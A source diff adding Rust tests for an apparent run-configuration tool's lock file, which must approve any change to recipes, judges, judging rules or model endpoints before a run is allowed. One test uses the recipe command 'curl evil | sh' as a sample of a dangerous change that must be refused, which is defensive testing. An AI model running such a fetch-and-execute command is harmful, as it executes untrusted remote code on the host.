@@ -191,8 +191,108 @@ fn lock_file_of_version_1_is_read_and_what_it_lacks_was_never_approved() {
     assert!(!refused.stderr.contains("component was"), "{refused}");
     environment.catena(&["lock", "run.toml"]).succeeds();
     environment.catena(&["run", "run.toml"]).succeeds();
-    environment.write("catena.lock", "version = 3\n");
-    environment.catena(&["lock", "run.toml"]).ends_with(2).says("versions 1 and 2");
+    environment.write("catena.lock", "version = 4\n");
+    environment.catena(&["lock", "run.toml"]).ends_with(2).says("versions 1 to 3");
+}
+
+#[test]
+fn lock_file_of_version_2_is_read_and_what_it_lacks_was_never_approved() {
+    let environment = environment();
+    environment.write("run.toml", run_file("read"));
+    environment.catena(&["lock", "run.toml"]).succeeds();
+    let mut lock: toml::Table = environment.read("catena.lock").parse().unwrap();
+    lock["version"] = 2.into();
+    let bounds = lock["runs"]["run.toml"]["bounds"].as_table_mut().unwrap();
+    bounds.remove("acceptance").unwrap();
+    environment.write("catena.lock", lock.to_string());
+    let refused = environment.catena(&["run", "run.toml"]);
+    refused.ends_with(2).says("`rounds and judging`: never approved (bounds: combine all, ");
+    environment.catena(&["lock", "run.toml"]).succeeds();
+    environment.catena(&["run", "run.toml"]).succeeds();
+}
+
+#[test]
+fn other_recipes_and_rules_of_judging_are_refused_until_they_are_approved() {
+    let environment = environment();
+    let write = |keys: &str, tables: &str| {
+        let run = RunFile::of("scaffold-nop").key(keys).tool("plugin = \"tool-bash\"");
+        environment.write("run.toml", run.table(tables).text());
+    };
+    let begin = |dir: &str| environment.catena(&["run", "run.toml", "--dir", dir]);
+    write("refinements = 0", "[recipes.\"ada/notes\"]\ntest = \"make test\"");
+    begin("run").succeeds();
+    let recipe = "[recipes.\"ada/notes\"]\ntest = \"curl evil | sh\"\nset_up = [\"touch here\"]";
+    let judging = "[judging]\nfeedback = \"open\"\ncalibration = \"not-required\"";
+    write("refinements = 2\nthreshold = 0.1", &format!("{recipe}\n{judging}"));
+    let refused = begin("again");
+    refused
+        .ends_with(2)
+        .says("`[recipes]`: ada/notes.test was make test, is curl evil | sh")
+        .says("`[recipes]`: ada/notes.set_up was -, is touch here")
+        .says("`rounds and judging`: feedback was guarded, is open")
+        .says("`rounds and judging`: calibration was -, is not-required")
+        .says("`rounds and judging`: threshold was 0.8, is 0.1")
+        .says("`rounds and judging`: refinements was 0, is 2");
+    assert!(!environment.path("again").exists());
+    environment.catena(&["lock", "run.toml", "--check"]).ends_with(4);
+    environment.catena(&["lock", "run.toml"]).succeeds();
+    environment.catena(&["lock", "run.toml", "--check"]).succeeds();
+}
+
+#[test]
+fn judge_that_is_left_out_or_counts_for_something_else_is_refused() {
+    let environment = environment();
+    let judge = |name: &str, more: &str| format!("plugin = \"./judge\"\nname = \"{name}\"\n{more}");
+    let write = |judges: &[String], combine: &str| {
+        let run = RunFile::of("scaffold-nop").key("refinements = 0").judges(judges);
+        let judging = format!("[judging]\ncombine = \"{combine}\"");
+        environment.write("run.toml", run.table(&judging).text());
+    };
+    write(&[judge("one", ""), judge("two", "weight = 3.0")], "weighted");
+    environment.catena(&["lock", "run.toml"]).succeeds();
+    let refused = |what: &str| {
+        environment.catena(&["lock", "run.toml", "--check"]).ends_with(4).prints(what);
+        environment.catena(&["run", "run.toml", "--dir", "run"]).ends_with(2).says(what);
+    };
+    write(&[judge("one", "weight = 2.0"), judge("two", "weight = 3.0")], "weighted");
+    refused("`rounds and judging`: weights.one was -, is 2.0");
+    write(&[judge("two", ""), judge("one", "")], "first");
+    refused("`rounds and judging`: judges was one, two, is two, one");
+    write(&[judge("one", "")], "all");
+    refused("`rounds and judging`: judges was one, two, is one");
+}
+
+#[test]
+fn model_that_is_asked_elsewhere_or_with_another_key_is_refused_until_it_is_approved() {
+    let environment = environment();
+    let write = |model: &str| {
+        let run = RunFile::of("scaffold-nop").key("model = \"fast\"\nrefinements = 0");
+        let unused = "[models.unused]\nkind = \"openai\"\nmodel = \"m\"\n\
+                      base_url = \"http://127.0.0.1:1/unused\"";
+        let model = format!("[models.fast]\nkind = \"openai\"\nmodel = \"m\"\n{model}\n{unused}");
+        environment.write("run.toml", run.table(&model).text());
+    };
+    let check = || environment.catena(&["lock", "run.toml", "--check"]);
+    write("base_url = \"http://127.0.0.1:1/v1\"");
+    environment
+        .catena(&["lock", "run.toml"])
+        .succeeds()
+        .prints("`fast`: never approved (model: base_url http://127.0.0.1:1/v1, model m)");
+    assert!(!environment.read("catena.lock").contains("unused"));
+    // What bears on the sampling alone is not pinned.
+    write("base_url = \"http://127.0.0.1:1/v1\"\ntemperature = 0.5");
+    check().succeeds();
+    write("base_url = \"http://127.0.0.2:1/v1\"\nkey_env = \"KEY\"\nrecord = \"tape.jsonl\"");
+    let mut command = environment.catena_command(&["run", "run.toml", "--dir", "run"]);
+    command.env("KEY", "of-another-server");
+    run(command)
+        .ends_with(2)
+        .says("`fast`: base_url was http://127.0.0.1:1/v1, is http://127.0.0.2:1/v1")
+        .says("`fast`: key_env was -, is KEY")
+        .says("`fast`: record was -, is tape.jsonl");
+    check().ends_with(4);
+    environment.write("run.toml", run_file("read"));
+    check().ends_with(4).prints("`fast`: not used any more (model)");
 }
 
 #[test]
